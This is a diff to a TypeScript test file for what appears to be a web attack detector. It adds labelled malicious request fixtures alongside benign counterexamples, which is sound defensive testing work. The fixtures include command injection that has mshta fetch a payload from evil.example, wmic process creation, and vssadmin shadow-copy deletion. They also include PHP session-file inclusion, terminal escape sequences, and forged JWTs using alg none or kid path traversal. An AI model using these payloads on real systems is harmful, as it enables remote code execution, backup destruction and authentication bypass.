@@ -403,6 +403,18 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['java-deserialization-gadget', '/api?x=<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>'],
   ['generic-dotnet-deserialization', '/api?x={"$type":"System.Windows.Data.ObjectDataProvider,%20PresentationFramework","MethodName":"Start"}'],
   ['generic-python', '/api?x={"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":[["id"]]}]}'],
+  // Batch 12: Windows tools with a URL or the subcommand that does harm, PHP's session files, terminal escapes
+  // for whoever reads the log, JSON Web Tokens forged for weak verifiers.
+  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20mshta%20http://evil.example/a.hta'],
+  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20wmic%20process%20call%20create%20%22calc.exe%22'],
+  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20vssadmin%20delete%20shadows%20/all%20/quiet'],
+  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20timeout%20/t%2010'],
+  ['lfi-system-file', '/index.php?page=/tmp/sess_abcdef123456'],
+  ['protocol-terminal-escape', '/a?x=%1b[31mALERT%1b[0m'],
+  ['protocol-terminal-escape', '/a?x=%1B]2;title%07'],
+  ['generic-jwt-forgery', '/account?token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.'],
+  ['generic-jwt-forgery', '/debug/jwt?header={"alg":"none","typ":"JWT"}'], // the header as a tool sends it, not yet encoded
+  ['generic-jwt-forgery', '/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.x'],
 ];
 
 /** Attacks in the User-Agent, for the detectors that read only that field. */
@@ -416,6 +428,7 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['scanner-ua', 'wafw00f'],
   ['scanner-ua', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) xray/1.9.11'],
   ['scanner-ua', 'Mozilla/5.0 SF/2.10b'],
+  ['protocol-terminal-escape', 'Mozilla/5.0 \\x1B]0;owned\\x07'], // the \xHH form nginx writes for a control byte
 ];
 
 const BENIGN: readonly string[] = [
@@ -643,6 +656,10 @@ const BENIGN: readonly string[] = [
   '/search?q=esi%20tags%20in%20varnish',
   '/search?q=javax.servlet%20tutorial',
   '/search?q=py/reduce',
+  '/cb?id_token=eyJhbGciOiJSUzI1NiIsImtpZCI6IjFlOWdkazcifQ.eyJpc3MiOiJodHRwOi8vc2VydmVyLmV4YW1wbGUuY29tIiwic3ViIjoiMjQ4Mjg5NzYxMDAxIn0.sig',
+  '/search?q=wmic%20tutorial',
+  '/search?q=salt%20%26%20pepper%20grinder',
+  '/blog/tmp-session-files',
 ];
 
 describe('rule families', () => {
